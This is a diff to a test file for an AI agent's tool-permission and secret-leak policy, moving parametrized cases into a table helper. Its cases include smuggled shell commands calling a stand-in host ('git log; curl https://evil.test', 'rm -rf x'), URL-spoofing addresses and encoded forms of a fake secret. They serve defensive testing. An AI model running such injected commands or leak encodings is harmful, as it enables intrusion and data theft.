@@ -23,6 +23,7 @@ from nanobot.security.policy import (
     digest,
 )
 from nanobot.utils.logs import add_secrets
+from tests.tables import table
 
 SEND = JudgedCall("mcp_mail_send", {"to": "ann"}, (Effect("change", "mcp_mail_send"),), "owner", "telegram:1", "s")
 READ = JudgedCall(
@@ -106,23 +107,21 @@ def test_rules_of_the_owner_come_first_a_denial_wins_and_a_yes_counts_under_tain
     assert [decided(line, TAINT) for line in ("git log", "make test", "git push")] == ["ask", "allow", "deny"]
 
 
-@pytest.mark.parametrize(
-    ("match", "kind", "target", "met"),
-    [
-        ("git *", "run_open", "git log", True),
-        ("git *", "run_open", "git log; curl https://evil.test", False),
-        ("git *", "run_open", "git log $(curl evil.test)", False),
-        ("git *", "run", "git log\nrm -rf x", False),
-        ("make a; make b", "run_open", "make a; make b", True),
-        ("*.example.org", "address", "https://www.example.org/x?d=1", True),
-        ("*.example.org", "address", "https://evil.test/www.example.org", False),
-        ("example.org", "address", "https://example.org@evil.test/", False),
-        ("https://*.example.org/a*", "address", "https://www.example.org/abc", True),
-        ("https://*.example.org/*", "address", "https://evil.test/.example.org/", False),
-        ("https://*.example.org/*", "address", "https://evil.test?.example.org/", False),
-        ("https://example.org/*", "address", "http://example.org/", False),
-        ("*/notes/*", "control", "/home/ann/notes/AGENTS.md", True),
-    ],
+@table(
+    "match kind target met",
+    ("git *", "run_open", "git log", True),
+    ("git *", "run_open", "git log; curl https://evil.test", False),
+    ("git *", "run_open", "git log $(curl evil.test)", False),
+    ("git *", "run", "git log\nrm -rf x", False),
+    ("make a; make b", "run_open", "make a; make b", True),
+    ("*.example.org", "address", "https://www.example.org/x?d=1", True),
+    ("*.example.org", "address", "https://evil.test/www.example.org", False),
+    ("example.org", "address", "https://example.org@evil.test/", False),
+    ("https://*.example.org/a*", "address", "https://www.example.org/abc", True),
+    ("https://*.example.org/*", "address", "https://evil.test/.example.org/", False),
+    ("https://*.example.org/*", "address", "https://evil.test?.example.org/", False),
+    ("https://example.org/*", "address", "http://example.org/", False),
+    ("*/notes/*", "control", "/home/ann/notes/AGENTS.md", True),
 )
 def test_a_rule_that_allows_is_never_wider_than_its_words(match: str, kind: EffectKind, target: str, met: bool) -> None:
     policy = Policy("careful", [Rule("allow", "*", match, tainted=True)])
@@ -165,14 +164,12 @@ def test_a_tool_that_says_nothing_of_what_it_does_is_not_run() -> None:
     assert Policy().judge(JudgedCall("web_search", {}, (), "guest", public=True)).decision == "allow"
 
 
-@pytest.mark.parametrize(
-    ("effect", "same", "other"),
-    [
-        (Effect("address", "https://a.example/x"), "https://a.example/y?z=1", "https://b.a.example/x"),
-        (Effect("control", "/w/AGENTS.md", "-old\n+new"), "/w/AGENTS.md", "/w/SOUL.md"),
-        (Effect("run_open", "make deploy", "in /w"), "make deploy", "make deploy all"),
-        (Effect("send_other", "-55"), "-55", "-56"),
-    ],
+@table(
+    "effect same other",
+    (Effect("address", "https://a.example/x"), "https://a.example/y?z=1", "https://b.a.example/x"),
+    (Effect("control", "/w/AGENTS.md", "-old\n+new"), "/w/AGENTS.md", "/w/SOUL.md"),
+    (Effect("run_open", "make deploy", "in /w"), "make deploy", "make deploy all"),
+    (Effect("send_other", "-55"), "-55", "-56"),
 )
 def test_a_lasting_yes_is_for_what_was_shown_and_for_the_owner_alone(effect: Effect, same: str, other: str) -> None:
     call = JudgedCall("tool", {}, (effect,), "owner", taint=TAINT, granted=frozenset({"files", "exec", "messages"}))
@@ -216,19 +213,17 @@ VALUE = "kx-Zw93/ab+Q7 77"
 
 
 @pytest.mark.parametrize("role", ROLES)
-@pytest.mark.parametrize(
+@table(
     "said",
-    [
-        VALUE,
-        f"see {VALUE.upper()}!",
-        "kx-Zw93%2Fab%2BQ7%2077",
-        "kx-Zw93%252Fab%252BQ7%252077",
-        "kx-Zw93/ab\n+Q777",
-        VALUE.encode().hex(),
-        VALUE[::-1],
-        *(b64encode(b"x" * before + VALUE.encode() + b"tail").decode() for before in range(4)),
-        b64encode(VALUE.encode()).decode().replace("+", "-").replace("/", "_"),
-    ],
+    VALUE,
+    f"see {VALUE.upper()}!",
+    "kx-Zw93%2Fab%2BQ7%2077",
+    "kx-Zw93%252Fab%252BQ7%252077",
+    "kx-Zw93/ab\n+Q777",
+    VALUE.encode().hex(),
+    VALUE[::-1],
+    *(b64encode(b"x" * before + VALUE.encode() + b"tail").decode() for before in range(4)),
+    b64encode(VALUE.encode()).decode().replace("+", "-").replace("/", "_"),
 )
 def test_A21_a_known_secret_leaves_in_no_argument_however_it_is_written(said: str, role: Role) -> None:
     add_secrets([VALUE])
@@ -247,17 +242,15 @@ def test_A21_a_known_secret_leaves_in_no_argument_however_it_is_written(said: st
     assert Policy().judge(half).decision == "allow"
 
 
-@pytest.mark.parametrize(
+@table(
     "arguments",
-    [
-        {"query": "kx-Zw93/", "country": "ab+Q7", "limit": 77},
-        {"a": {"b": "Kx-zw9"}, "c": ["3/AB+", {"d": "q777"}]},
-        {"url": "https://a.example/kx/-Zw9/3ab+/Q777/"},
-        {"url": "https://a.example/?p=kx-Zw93&q=/ab%2BQ7&r[0]=77"},
-        {"url": "https://a.example/?p=kx-Zw93;q=ab+Q777#x"},
-        {"query": "k.x.Z.w.9.3.a.b.Q.7.7.7"},
-        {"urls": ["https://a.example", "kx-Zw93", "/ab+Q777"]},
-    ],
+    {"query": "kx-Zw93/", "country": "ab+Q7", "limit": 77},
+    {"a": {"b": "Kx-zw9"}, "c": ["3/AB+", {"d": "q777"}]},
+    {"url": "https://a.example/kx/-Zw9/3ab+/Q777/"},
+    {"url": "https://a.example/?p=kx-Zw93&q=/ab%2BQ7&r[0]=77"},
+    {"url": "https://a.example/?p=kx-Zw93;q=ab+Q777#x"},
+    {"query": "k.x.Z.w.9.3.a.b.Q.7.7.7"},
+    {"urls": ["https://a.example", "kx-Zw93", "/ab+Q777"]},
 )
 def test_a_known_secret_leaves_in_no_parts(arguments: dict[str, object]) -> None:
     add_secrets([VALUE])
